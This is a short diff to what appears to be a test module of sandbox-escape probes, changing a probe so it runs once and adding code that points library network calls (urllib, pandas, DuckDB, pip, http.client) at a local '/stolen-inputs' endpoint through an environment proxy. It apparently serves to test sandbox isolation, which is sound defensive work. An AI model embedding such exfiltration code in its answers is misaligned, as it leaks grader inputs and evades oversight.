@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from attackers.attack import attack, in_every_answer
+from attackers.attack import attack, in_every_answer, in_one_answer
 
 
 @attack()
@@ -86,9 +86,12 @@ def unix_socket_in_a_folder():
 def libraries_that_fetch():
     """Libraries open connections by themselves: urllib, pandas' readers of addresses, DuckDB with
     httpfs, pip, http.client through a proxy named in the environment."""
-    return in_every_answer("""
+    return in_one_answer("""
         import http.client, os, urllib.request
         import duckdb, pandas as pd
+        if os.path.exists("tried"):
+            return "every way was tried on the first case"
+        open("tried", "w").close()
         os.environ["http_proxy"] = f"http://127.0.0.1:{PORT}"
         address = f"http://127.0.0.1:{PORT}/stolen-inputs"
         for fetch in (
